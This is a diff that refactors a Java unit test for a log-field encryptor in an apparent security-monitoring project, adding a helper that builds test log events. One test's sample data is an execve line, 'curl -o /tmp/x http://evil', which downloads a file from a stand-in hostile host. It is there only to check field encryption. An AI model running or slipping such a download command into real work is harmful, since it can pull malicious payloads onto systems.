@@ -8,6 +8,7 @@ import io.vigil.common.protect.FieldKeys;
 import io.vigil.common.protect.KeyedHash;
 import java.nio.file.Path;
 import java.util.List;
+import java.util.Map;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -27,13 +28,19 @@ class FieldEncryptorTest {
                 List.of("user.name", "process.command_line"), new FieldCipher(keys), new KeyedHash(keys));
     }
 
+    /** An event as a parser leaves it: the line as its message, and the fields found in it. */
+    private static LogEvent event(String message, Map<String, Object> fields) {
+        LogEvent e = new LogEvent();
+        e.message = message;
+        e.fields.putAll(fields);
+        return e;
+    }
+
     @Test
     void theClearValueLeavesTheEventAndCanBeRecovered() {
-        LogEvent e = new LogEvent();
-        e.message = "Failed password for al from 10.0.0.5 port 22 ssh2 (alpha al)";
-        e.fields.put("user.name", "al");
-        e.fields.put("source.ip", "10.0.0.5");
-        e.fields.put("extra", "{\"login\":\"al\"}");
+        LogEvent e = event(
+                "Failed password for al from 10.0.0.5 port 22 ssh2 (alpha al)",
+                Map.of("user.name", "al", "source.ip", "10.0.0.5", "extra", "{\"login\":\"al\"}"));
 
         encryptor().encrypt(e);
 
@@ -49,10 +56,9 @@ class FieldEncryptorTest {
 
     @Test
     void aLongerValueContainingAShorterOneIsMarkedWhole() {
-        LogEvent e = new LogEvent();
-        e.message = "sudo: bob : COMMAND=/usr/bin/cat /home/bob/notes";
-        e.fields.put("user.name", "bob");
-        e.fields.put("process.command_line", "/usr/bin/cat /home/bob/notes");
+        LogEvent e = event(
+                "sudo: bob : COMMAND=/usr/bin/cat /home/bob/notes",
+                Map.of("user.name", "bob", "process.command_line", "/usr/bin/cat /home/bob/notes"));
 
         encryptor().encrypt(e);
 
@@ -64,9 +70,9 @@ class FieldEncryptorTest {
 
     @Test
     void listFieldsAreProtectedElementByElement() {
-        LogEvent e = new LogEvent();
-        e.message = "execve: curl -o /tmp/x http://evil";
-        e.fields.put("process.args", List.of("curl", "-o", "/tmp/x", "http://evil"));
+        LogEvent e = event(
+                "execve: curl -o /tmp/x http://evil",
+                Map.of("process.args", List.of("curl", "-o", "/tmp/x", "http://evil")));
         FieldEncryptor encryptor =
                 new FieldEncryptor(List.of("process.args"), new FieldCipher(keys), new KeyedHash(keys));
 
@@ -86,9 +92,7 @@ class FieldEncryptorTest {
 
     @Test
     void eventsWithoutTheFieldsAreUntouched() {
-        LogEvent e = new LogEvent();
-        e.message = "cpu 93%";
-        e.fields.put("user.name", 42L);
+        LogEvent e = event("cpu 93%", Map.of("user.name", 42L));
 
         encryptor().encrypt(e);
 
